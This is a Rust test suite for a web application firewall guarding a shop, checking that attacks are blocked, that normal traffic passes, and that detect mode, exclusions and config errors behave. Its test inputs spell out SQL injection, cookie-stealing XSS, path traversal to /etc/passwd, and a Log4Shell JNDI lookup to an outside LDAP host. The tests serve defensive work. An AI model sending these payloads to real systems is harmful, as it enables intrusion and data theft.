//! The WAF in the request path: attacks in every part of a request get a clean 403 and never
//! reach the shop; shop traffic passes; detect mode, exclusions and config errors behave.

use crate::support::upstream::Echo;
use crate::support::*;

#[tokio::test(flavor = "multi_thread")]
async fn attack_in_the_query_gets_a_clean_403_and_never_reaches_the_shop() {
    let shop = Upstream::start("shop").await;
    let pki = Pki::new();
    let gw = Gateway::start(&pki, &shop_config(&[shop.addr], "")).await;
    let client = gw.client(&pki).build();

    let resp = client
        .get(gw.https_url(
            "shop.test",
            "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        ))
        .send()
        .await
        .unwrap();

    assert_eq!(resp.status(), 403);
    assert_eq!(
        header_values(&resp, "strict-transport-security"),
        ["max-age=31536000"]
    );
    let id = header_values(&resp, "x-request-id").remove(0);
    let page = resp.text().await.unwrap();
    assert!(page.contains(&id), "the block page quotes the request id");
    for secret in ["sql", "SQL", "rule", "UNION", "942", "score"] {
        assert!(
            !page.contains(secret),
            "the page says nothing about the rule: {secret}"
        );
    }
    assert_eq!(shop.requests(), 0, "the shop never saw it");
}

#[tokio::test(flavor = "multi_thread")]
async fn attacks_in_forms_json_headers_and_cookies_are_blocked() {
    let shop = Upstream::start("shop").await;
    let pki = Pki::new();
    let gw = Gateway::start(&pki, &shop_config(&[shop.addr], "")).await;
    let client = gw.client(&pki).build();
    let url = gw.https_url("shop.test", "/account");

    let form = client
        .post(&url)
        .header("content-type", "application/x-www-form-urlencoded")
        .body("name=jane&comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")
        .send()
        .await
        .unwrap();
    assert_eq!(form.status(), 403, "XSS in a form field");

    let json = client
        .post(&url)
        .header("content-type", "application/json")
        .header("accept", "application/json")
        .body(r#"{"user":{"address":{"city":"../../../../etc/passwd"}}}"#)
        .send()
        .await
        .unwrap();
    assert_eq!(json.status(), 403, "path traversal in a nested JSON value");
    assert_eq!(header_values(&json, "content-type"), ["application/json"]);

    let header = client
        .get(&url)
        .header("user-agent", "${jndi:ldap://203.0.113.7/a}")
        .send()
        .await
        .unwrap();
    assert_eq!(header.status(), 403, "Log4Shell in the User-Agent");

    let cookie = client
        .get(&url)
        .header("cookie", "basket=../../../../etc/passwd")
        .send()
        .await
        .unwrap();
    assert_eq!(cookie.status(), 403, "path traversal in a cookie");

    assert_eq!(shop.requests(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn shop_traffic_passes() {
    let shop = Upstream::start("shop").await;
    let pki = Pki::new();
    let gw = Gateway::start(&pki, &shop_config(&[shop.addr], "")).await;
    let client = gw.client(&pki).build();

    for path in [
        "/search?q=O%27Reilly+%22red+shoes%22",
        "/search?q=caf%C3%A9+cr%C3%A8me+br%C3%BBl%C3%A9e&sort=price-asc",
        "/product/42-rock-n-roll-t-shirt?size=M&colour=blue",
        "/cart?coupon=SUMMER-2024",
    ] {
        let resp = client
            .get(gw.https_url("shop.test", path))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200, "{path}");
    }
    let form = client
        .post(gw.https_url("shop.test", "/checkout/address"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("street=12+Rue+de+l%27%C3%89glise&city=Saint-%C3%89tienne&zip=42000&note=Leave+it+at+the+back+door%2C+please")
        .send()
        .await
        .unwrap();
    assert_eq!(form.status(), 200);
    assert!(
        Echo::of(form)
            .await
            .str("body")
            .starts_with("street=12+Rue"),
        "body reached the shop intact"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn large_bodies_are_inspected_up_to_the_limit_and_forwarded_intact() {
    let shop = Upstream::start("shop").await;
    let pki = Pki::new();
    let gw = Gateway::start(&pki, &shop_config(&[shop.addr], "")).await;
    let client = gw.client(&pki).build();
    let url = gw.https_url("shop.test", "/upload");

    // 200 KiB of benign form data: held back, inspected, then forwarded byte for byte.
    let benign = format!("description={}", "lorem+ipsum+dolor+sit+amet+".repeat(7600));
    assert!(benign.len() > 200 * 1024);
    let resp = client
        .post(&url)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(benign.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200, "{}", gw.stderr_text());
    assert_eq!(Echo::of(resp).await.str("body"), benign);

    // The same size with an attack near the start: blocked before the shop gets the body.
    let attack = format!(
        "q=1%27+OR+%271%27%3D%271&description={}",
        "lorem+ipsum+".repeat(20000)
    );
    let resp = client
        .post(&url)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(attack)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403);
    assert_eq!(shop.requests(), 1, "only the benign upload was dispatched");
}

#[tokio::test(flavor = "multi_thread")]
async fn detect_mode_lets_attacks_through_but_reports_them() {
    let shop = Upstream::start("shop").await;
    let pki = Pki::new();
    let config = shop_config(&[shop.addr], "\n[sites.waf]\nmode = \"detect\"\n").replace(
        "[logging]\nlevel = \"info\"",
        "[logging]\nlevel = \"info\"\nformat = \"json\"\noutput = \"gateway.log\"",
    );
    let gw = Gateway::start(&pki, &config).await;
    let client = gw.client(&pki).build();

    let resp = client
        .get(gw.https_url("shop.test", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200, "detect mode never blocks");
    let id = header_values(&resp, "x-request-id").remove(0);

    let metrics = gw
        .metrics_with(
            "palisade_requests_total{action=\"detect\",site=\"shop\",status_class=\"2xx\"} 1",
        )
        .await;
    assert!(
        metrics.lines().any(|l| l.starts_with(
            "palisade_waf_matches_total{category=\"xss\",mode=\"detect\",site=\"shop\"}"
        )),
        "{metrics}"
    );
    assert!(metrics.contains(
        "palisade_requests_total{action=\"detect\",site=\"shop\",status_class=\"2xx\"} 1"
    ));
    assert!(gw.stop().success());
    let log = read(&pki.path("gateway.log"));
    let event = log
        .lines()
        .find(|l| l.contains("\"event\":\"waf\"") && l.contains(&id))
        .unwrap_or_else(|| panic!("no waf event for {id}:\n{log}"));
    assert!(
        event.contains("\"action\":\"detect\"") && event.contains("xss"),
        "{event}"
    );
    assert!(
        !event.contains("<script>") && !event.contains("alert(1)"),
        "matched values stay out of the log"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn exclusions_allow_rich_text_where_the_shop_needs_it() {
    let shop = Upstream::start("shop").await;
    let pki = Pki::new();
    let extra = "\n[sites.waf]\nexclusions = [{ path_prefix = \"/admin/cms/\", categories = [\"xss\"], args = [\"content\"] }]\n";
    let gw = Gateway::start(&pki, &shop_config(&[shop.addr], extra)).await;
    let client = gw.client(&pki).build();
    let html = "content=%3Cp%3ESummer+sale%3C%2Fp%3E%3Cscript%3Etrack()%3C%2Fscript%3E";

    let post = |path: &str| {
        client
            .post(gw.https_url("shop.test", path))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(html)
            .send()
    };
    assert_eq!(
        post("/admin/cms/page/3").await.unwrap().status(),
        200,
        "excluded there"
    );
    assert_eq!(
        post("/contact").await.unwrap().status(),
        403,
        "still blocked elsewhere"
    );
}

#[test]
fn a_bad_custom_rule_is_refused_with_its_position() {
    let pki = Pki::new();
    let path = pki.path("palisade.toml");
    let text = shop_config(
        &["127.0.0.1:9".parse().unwrap()],
        "\n[sites.waf]\nrules = [{ id = \"custom-1\", category = \"sqli\", targets = [\"args\"], regex = \"(unclosed\" }]\n",
    );
    std::fs::write(&path, &text).unwrap();
    let line = text
        .lines()
        .position(|l| l.starts_with("rules = ["))
        .unwrap()
        + 1;

    let out = std::process::Command::new(env!("CARGO_BIN_EXE_palisade"))
        .args(["check", "--config"])
        .arg(&path)
        .output()
        .unwrap();

    assert_eq!(out.status.code(), Some(78));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.starts_with(&format!("{}:{line}:", path.display())),
        "{stderr}"
    );
    assert!(stderr.contains("custom-1"), "{stderr}");
}

#[tokio::test(flavor = "multi_thread")]
async fn attacks_on_an_unknown_host_are_still_reported_as_attacks() {
    let shop = Upstream::start("shop").await;
    let pki = Pki::new();
    let gw = Gateway::start(&pki, &shop_config(&[shop.addr], "")).await;
    let client = gw.client(&pki).http1_only().build();

    let probe = client
        .get(gw.https_url(
            "shop.test",
            "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        ))
        .header("host", "203.0.113.50")
        .send()
        .await
        .unwrap();
    assert_eq!(
        probe.status(),
        403,
        "an attack by IP address is blocked as an attack"
    );
    let plain = client
        .get(gw.https_url("shop.test", "/"))
        .header("host", "203.0.113.50")
        .send()
        .await
        .unwrap();
    assert_eq!(
        plain.status(),
        421,
        "anything else for an unknown host is misdirected"
    );
    gw.metrics_with("palisade_waf_matches_total{category=\"sqli\",mode=\"block\",site=\"-\"}")
        .await;
    assert_eq!(shop.requests(), 0);
}
